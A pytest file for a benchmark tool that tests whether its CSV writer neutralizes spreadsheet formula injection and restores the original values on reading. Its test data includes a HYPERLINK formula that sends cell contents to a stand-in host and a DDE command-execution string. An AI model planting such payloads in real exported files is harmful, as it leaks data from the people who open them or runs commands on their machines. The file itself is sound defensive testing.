"""No cell of a CSV file that we write is a formula, and what we read of them is what was meant."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from command_line import Command
from made_runs import write_experiment

import cmkd_bench
from cmkd_bench.data.media.catalogue import Skipped
from cmkd_bench.data.media.preparing.skipped import write_skipped
from cmkd_bench.experiment.csv_text import neutralized, original, read_rows, write_csv
from cmkd_bench.experiment.files import read_json
from cmkd_bench.experiment.record import read_plan

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"kd")'
CELLS = {
    "=1+1": "'=1+1",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "-": "'-",
    "'=1": "''=1",
    "-1.5": "-1.5",
    "+3e-7": "+3e-7",
    "-inf": "-inf",
    "kd": "kd",
    "": "",
    "a=b": "a=b",
    "'s": "'s",
}


@pytest.mark.parametrize(("text", "cell"), CELLS.items())
def test_cells(text: str, cell: str) -> None:
    assert neutralized(text) == cell
    assert original(cell) == text


def test_a_control_character_is_shown_and_ends_no_row() -> None:
    assert write_csv(["a", "b"], [["50 %\r100 %", "\x1b[31m"]]) == "a,b\n50 %\\r100 %,\\x1b[31m\n"


def test_other_values_are_kept() -> None:
    values = [-1, -1.5, None, True]
    assert [neutralized(value) for value in values] == values
    assert write_csv(["a", "b"], [[-1, None]]) == "a,b\n-1,\n"


def test_rows_are_read_as_they_were_meant() -> None:
    text = write_csv(["=name", "value"], [[one, "x"] for one in CELLS])
    assert [row["=name"] for row in read_rows(io.StringIO(text, newline=""))] == list(CELLS)


def formulas(file: Path) -> list[str]:
    with file.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), file
    return [cell for cell in cells if re.match(r"[=+@\t\r]|-(?![\d.])", cell)]


def test_files_of_an_experiment(tmp_path: Path, cmkd: Command) -> None:
    experiment = write_experiment(tmp_path / "results", {"none": 0.6, FORMULA: 0.8}, dataset=FORMULA)
    first = next(cell.run_id for cell in read_plan(experiment).cells.values() if cell.method == FORMULA)
    result = read_json(experiment.run(first).result)
    experiment.run(first).write_result(result | {"logged": {FORMULA: -0.25}})
    done = cmkd("leaderboard", "made")
    assert done.returncode == 0, done.stderr
    for name in ("results.csv", "runs.csv", "leaderboard.csv", "comparisons.csv"):
        assert formulas(experiment.path / name) == []
    printed = cmkd("leaderboard", "made", "--format", "csv").stdout
    assert f"\n{FORMULA}" not in printed
    assert "'=HYPERLINK" in printed
    stored = pd.read_csv(experiment.results)
    assert stored[f"'{FORMULA}"].dropna().tolist() == [-0.25]
    loaded = cmkd_bench.load_results("made", experiment.root)
    assert FORMULA in set(loaded.method)
    assert set(stored.method) == {"none", "teacher", f"'{FORMULA}"}
    assert stored.value.tolist() == loaded.value.tolist()


def test_skipped_clips(tmp_path: Path) -> None:
    write_skipped(tmp_path / "skipped.csv", [Skipped(FORMULA, "audio", "@a.wav", "-x: broken")])
    assert formulas(tmp_path / "skipped.csv") == []
    with (tmp_path / "skipped.csv").open(newline="") as lines:
        assert read_rows(lines) == [
            {"sample_id": FORMULA, "modality": "audio", "path": "@a.wav", "reason": "-x: broken"}
        ]
